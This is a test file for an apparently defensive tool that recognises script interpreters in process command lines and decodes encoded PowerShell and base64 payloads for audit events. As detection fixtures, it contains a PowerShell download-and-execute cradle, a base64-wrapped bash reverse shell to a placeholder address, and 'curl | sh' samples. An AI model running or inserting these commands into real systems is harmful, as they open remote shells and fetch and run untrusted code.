import { test } from 'node:test';
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { seededRandom } from '@vigil/common';
import { checkEvent } from '@vigil/schema';
import { decodeBase64Literals, decodeEncodedCommand, languageOf, MAX_SCRIPT_TEXT, parseScriptInvocation } from './script-command.js';
import { buildScriptEvent } from './script-events.js';

const utf16 = (text: string) => Buffer.from(text, 'utf16le').toString('base64');

test('interpreters are recognised by executable name, not by look-alikes', () => {
  for (const [name, language] of [
    ['/usr/bin/dash', 'sh'], ['/bin/bash', 'bash'], ['/usr/bin/python3.11', 'python'], ['python2', 'python'], ['/usr/bin/perl5.36.0', 'perl'],
    ['/usr/bin/ruby3.1', 'ruby'], ['/usr/bin/node', 'node'], ['nodejs', 'node'], ['/usr/bin/php8.2', 'php'], ['/opt/microsoft/powershell/7/pwsh', 'powershell'],
    ['powershell.exe', 'powershell'], ['/usr/bin/lua5.4', 'lua'], ['/usr/bin/zsh', 'zsh'], ['/bin/mksh', 'ksh'],
  ] as const) assert.equal(languageOf(name), language, name);
  for (const name of ['/usr/bin/python-config', '/usr/bin/perldoc', '/usr/bin/nodemon', '/usr/bin/shred', '/usr/bin/bashbug', 'ls']) assert.equal(languageOf(name), undefined, name);
});

test('code on the command line', () => {
  const cases: Array<[string[], string | undefined, string, string?]> = [
    // argv, executable, expected text, expected language
    [['sh', '-c', 'echo hi'], '/usr/bin/dash', 'echo hi', 'sh'],
    [['bash', '-lc', 'id; uname -a', 'name', 'arg'], '/usr/bin/bash', 'id; uname -a', 'bash'],
    [['bash', '-o', 'pipefail', '-ec', 'curl x | sh'], '/usr/bin/bash', 'curl x | sh'],
    [['bash', '--norc', '--rcfile', 'f', '-c', 'true'], '/usr/bin/bash', 'true'],
    [['bash', '-c', '-x', 'echo hi'], '/usr/bin/bash', 'echo hi', 'bash'],
    [['sh', '-c', '--', '-dash-leading'], '/usr/bin/dash', '-dash-leading'],
    [['python3', '-c', 'import os; os.system("id")'], '/usr/bin/python3.11', 'import os; os.system("id")', 'python'],
    [['python3', '-Ic', 'print(1)'], '/usr/bin/python3.11', 'print(1)'],
    [['python3', '-W', 'ignore', '-cprint(2)'], '/usr/bin/python3.11', 'print(2)'],
    [['perl', '-e', 'print 1', '-e', 'print 2'], '/usr/bin/perl', 'print 1\nprint 2', 'perl'],
    [['perl', '-MIO::Socket', '-ne', 'print if /x/'], '/usr/bin/perl', 'print if /x/'],
    [['perl', '-I', 'lib', '-E', 'say 1'], '/usr/bin/perl', 'say 1'],
    [['ruby', '-rsocket', '-e', 'exit 1'], '/usr/bin/ruby3.1', 'exit 1', 'ruby'],
    [['ruby', '-r', 'socket', '-e', 'p 1'], '/usr/bin/ruby3.1', 'p 1'],
    [['node', '-e', 'require("child_process")'], '/usr/bin/node', 'require("child_process")', 'node'],
    [['node', '--eval=1+1'], '/usr/bin/node', '1+1'],
    [['node', '-pe', 'process.pid'], '/usr/bin/node', 'process.pid'],
    [['node', '-r', 'mod', '--print', 'x'], '/usr/bin/node', 'x'],
    [['php', '-r', 'system("id");'], '/usr/bin/php8.2', 'system("id");', 'php'],
    [['pwsh', '-NoProfile', '-Command', 'Get-Process', '|', 'Select', '-First', '1'], '/usr/bin/pwsh', 'Get-Process | Select -First 1', 'powershell'],
    [['pwsh', '-nop', '-ep', 'Bypass', '-c', 'iex $x'], '/usr/bin/pwsh', 'iex $x'],
    [['pwsh', '-ExecutionPolicy:Bypass', '-comm', 'whoami'], '/usr/bin/pwsh', 'whoami'],
    [['powershell.exe', 'Get-Date'], 'C:/Windows/powershell.exe', 'Get-Date'],
    [['lua', '-e', 'os.execute("id")'], '/usr/bin/lua5.4', 'os.execute("id")', 'lua'],
    [['busybox', 'sh', '-c', 'wget x'], '/bin/busybox', 'wget x', 'sh'],
    [['sh', '-c', 'ls'], '/bin/busybox', 'ls', 'sh'],
  ];
  for (const [argv, exe, text, language] of cases) {
    const got = parseScriptInvocation(argv, exe);
    assert.equal(got?.kind, 'command', argv.join(' '));
    assert.equal(got?.text, text, argv.join(' '));
    if (language) assert.equal(got?.language, language);
  }
});

test('script files, and invocations that run no script', () => {
  assert.deepEqual(parseScriptInvocation(['/bin/sh', './run.sh'], '/usr/bin/dash'), { language: 'sh', kind: 'file', path: './run.sh' });
  assert.deepEqual(parseScriptInvocation(['bash', '-x', '/tmp/a b.sh', '-c', 'x'], '/usr/bin/bash'), { language: 'bash', kind: 'file', path: '/tmp/a b.sh' });
  assert.equal(parseScriptInvocation(['python3', '-u', 'tool.py', '-c', 'x'], '/usr/bin/python3')?.path, 'tool.py');
  assert.equal(parseScriptInvocation(['perl', '-w', 'x.pl'], '/usr/bin/perl')?.path, 'x.pl');
  assert.equal(parseScriptInvocation(['node', '--inspect-port', '9229', 'server.js'], '/usr/bin/node')?.path, 'server.js');
  assert.equal(parseScriptInvocation(['php', '-f', 'index.php'], '/usr/bin/php')?.path, 'index.php');
  assert.equal(parseScriptInvocation(['pwsh', '-File', 'x.ps1', 'a'], '/usr/bin/pwsh')?.path, 'x.ps1');
  assert.equal(parseScriptInvocation(['pwsh', 'x.ps1'], '/usr/bin/pwsh')?.path, 'x.ps1');
  assert.equal(parseScriptInvocation(['ruby', '--disable', 'gems', 'x.rb'], '/usr/bin/ruby')?.path, 'x.rb');
  for (const [argv, exe] of [
    [['bash'], '/usr/bin/bash'], [['bash', '-i'], '/usr/bin/bash'], [['bash', '-c', '-x'], '/usr/bin/bash'], [['bash', '-s', 'arg'], '/usr/bin/bash'], [['sh', '-c'], '/usr/bin/dash'],
    [['python3', '-m', 'http.server'], '/usr/bin/python3'], [['python3', '-'], '/usr/bin/python3'], [['python3'], '/usr/bin/python3'],
    [['node'], '/usr/bin/node'], [['pwsh', '-Command', '-'], '/usr/bin/pwsh'], [['ls', '-c', 'x'], '/usr/bin/ls'],
    [['python3', '-c', 'x'], '/usr/bin/env'], [['wget', '-c', 'x'], '/bin/busybox'], [[], '/usr/bin/bash'],
  ] as Array<[string[], string]>) {
    assert.equal(parseScriptInvocation(argv, exe), undefined, `${exe}: ${argv.join(' ')}`);
  }
});

test('-EncodedCommand is base64 of UTF-16LE; base64 literals in code are decoded when readable', () => {
  const inner = 'IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.7/a")';
  for (const flag of ['-EncodedCommand', '-enc', '-e', '-ec', '--encodedcommand']) {
    const got = parseScriptInvocation(['pwsh', '-NoProfile', flag, utf16(inner)], '/usr/bin/pwsh');
    assert.equal(got?.kind, 'command', flag);
    assert.equal(got?.decoded, inner, flag);
    assert.equal(got?.text, utf16(inner));
  }
  assert.equal(decodeEncodedCommand('not base64!'), undefined);
  assert.equal(decodeEncodedCommand('QQ=='), undefined, 'odd byte count');
  const payload = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1';
  const python = parseScriptInvocation(['python3', '-c', `import base64,os;os.system(base64.b64decode("${Buffer.from(payload).toString('base64')}"))`], '/usr/bin/python3');
  assert.equal(python?.decoded, payload);
  assert.equal(decodeBase64Literals('echo abcdefghijklmnopqrstuvwxyzABCD'), undefined, 'letters that decode to binary are not text');
  assert.equal(decodeBase64Literals(`x=${Buffer.from(inner, 'utf16le').toString('base64')}`), inner, 'UTF-16LE literal');
  assert.equal(parseScriptInvocation(['sh', '-c', 'echo hi'], '/bin/sh')?.decoded, undefined);
});

test('fuzz: random argument vectors never throw, and sh -c / -EncodedCommand round-trip any text', () => {
  const random = seededRandom(0x5c41f7);
  const pick = <T>(list: readonly T[]) => list[Math.floor(random() * list.length)]!;
  const tokens = ['-c', '-e', '-E', '-m', '-', '--', '-r', '-f', '-File', '-enc', '-Command', '-o', '+o', '-W', '-I', '-pe', '--eval', '--eval=', '-lc', '-ccode', 'x', '', '=', '-ExecutionPolicy:', 'Zm9vYmFyYmF6cXV4cXV1eHh4eHh4eA==', '\u0000', 'é', '/tmp/a.sh'];
  const exes = ['/usr/bin/bash', '/usr/bin/dash', '/usr/bin/python3', '/usr/bin/perl', '/usr/bin/ruby', '/usr/bin/node', '/usr/bin/php', '/usr/bin/pwsh', 'powershell.exe', '/usr/bin/lua', '/bin/busybox', '/usr/bin/zsh'];
  const randomText = (max: number) => {
    let text = '';
    const length = Math.floor(random() * max);
    for (let i = 0; i < length; i++) text += String.fromCodePoint(random() < 0.8 ? 32 + Math.floor(random() * 95) : Math.floor(random() * 0xd7ff));
    return text;
  };
  for (let i = 0; i < 5000; i++) {
    const exe = pick(exes);
    const argv = [exe.split('/').pop()!];
    const n = Math.floor(random() * 8);
    for (let j = 0; j < n; j++) argv.push(random() < 0.7 ? pick(tokens) : randomText(40));
    const got = parseScriptInvocation(argv, exe);
    if (!got) continue;
    assert.ok(got.kind === 'command' ? typeof got.text === 'string' : typeof got.path === 'string', JSON.stringify({ argv, got }));
    assert.ok((got.text ?? '').length <= MAX_SCRIPT_TEXT && (got.decoded ?? '').length <= MAX_SCRIPT_TEXT);
    if (got.kind === 'file') assert.ok(argv.includes(got.path!), 'a script path is one of the arguments');
  }
  for (let i = 0; i < 500; i++) {
    const text = randomText(200);
    assert.equal(parseScriptInvocation(['sh', '-c', '--', text, 'name'], '/usr/bin/dash')?.text, text);
    if (!/^[-+]/.test(text)) assert.equal(parseScriptInvocation(['sh', '-c', text], '/usr/bin/dash')?.text, text);
    if (text.length > 0) assert.equal(parseScriptInvocation(['pwsh', '-e', utf16(text)], '/usr/bin/pwsh')?.decoded, text);
  }
  // Linear time on a hostile argument: 1 MiB of base64-looking text.
  const huge = 'A'.repeat(1024 * 1024);
  assert.ok((parseScriptInvocation(['sh', '-c', huge], '/bin/sh')?.text ?? '').length === MAX_SCRIPT_TEXT);
});

test('a script event carries the process and the language, text or file hash', async () => {
  const start = {
    '@timestamp': '2026-12-05T10:00:00.000Z', 'event.category': 'process', 'event.action': 'start', 'event.type': 'start', 'event.provider': 'auditd',
    'event.outcome': 'success', 'process.pid': 77, 'process.entity_id': 'E77', 'process.executable': '/usr/bin/dash', 'process.name': 'dash',
    'process.args': ['sh', 'run.sh'], 'process.working_directory': '/opt/app', 'user.id': '0', 'process.parent.pid': 1,
  } as const;
  const hashed: string[] = [];
  const fromFile = await buildScriptEvent(start as never, { hashFile: async (path) => (hashed.push(path), 'b'.repeat(64)) });
  assert.equal(fromFile?.['event.action'], 'file');
  assert.equal(fromFile?.['script.path'], '/opt/app/run.sh');
  assert.equal(fromFile?.['script.hash.sha256'], 'b'.repeat(64));
  assert.equal(fromFile?.['script.language'], 'sh');
  assert.equal(fromFile?.['process.entity_id'], 'E77');
  assert.deepEqual(hashed, ['/opt/app/run.sh']);
  const inline = await buildScriptEvent({ ...start, 'process.args': ['sh', '-c', 'id'] } as never);
  assert.equal(inline?.['event.action'], 'command');
  assert.equal(inline?.['script.text'], 'id');
  for (const event of [fromFile, inline]) assert.deepEqual(checkEvent({ ...event, 'event.id': randomUUID(), 'event.sequence': 1, 'host.id': 'h' }, 'event').problems, []);
  assert.equal(await buildScriptEvent({ ...start, 'event.outcome': 'failure' } as never), undefined);
  assert.equal(await buildScriptEvent({ ...start, 'process.executable': '/usr/bin/ls', 'process.args': ['ls'] } as never), undefined);
});
